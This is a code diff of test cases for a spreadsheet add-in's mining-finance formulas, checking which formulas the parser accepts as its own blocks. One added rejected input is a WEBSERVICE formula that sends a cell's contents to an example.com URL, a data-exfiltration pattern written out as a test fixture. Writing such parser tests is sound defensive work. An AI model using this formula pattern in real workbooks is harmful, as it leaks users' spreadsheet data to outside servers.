@@ -140,7 +140,6 @@ describe("a spilled block", () => {
     ["=SUM(INDEX(MINING.FLEET(A1:H9,B1),,7))"],
     ['=MINING.FLEET_TOTAL(A1:H9,MINING.HASHPRICE(B1,B2),"MW")*MINING.MINER("S21","W")'],
     ["=LET(x,MINING.CASHFLOW(A1,12,A2,,A3,A4,A5,A6),MINING.MINE_NPV(x,10%)-MINING.MINE_IRR(x))"],
-    ["=IF(fleet_total>0,fleet_total,$B$4)"],
   ])("can hold %s", (typed) => {
     expect(readBlock(nameOf(typed))).toMatchObject({ formula: typed });
   });
@@ -161,6 +160,7 @@ describe("a spilled block", () => {
   });
 
   it.each([
+    ["not-ours", "=IF(fleet_total>0,fleet_total,$B$4)"],
     ["unreadable", "Fleet"],
     ["unreadable", "=MINING.FLEET(A1"],
     ["unknown-function", "=MINING.FLEAT(A1:H9,B1)"],
@@ -195,6 +195,9 @@ describe("a name", () => {
     [`=CHOOSE(2,Home!$B$4,"MINING:00",${kept})`],
     [`=CHOOSE(1,Home!$B$4,"FLEET:00",${kept})`],
     [`=${kept}`],
+    ['=CHOOSE(1,Home!$B$4,"MINING:0:0badf00d",WEBSERVICE("https://example.com/?"&Home!$A$1))'],
+    ['=CHOOSE(1,Home!$B$4,"MINING:",1+1)'],
+    ["=CHOOSE(1,Home!$B$4,\"MINING:0\",'C:\\[Book.xlsx]Sheet'!$A$1)"],
     ["Fleet"],
     ["=CHOOSE("],
   ])("that is none of ours is no block: %s", (formula) => {
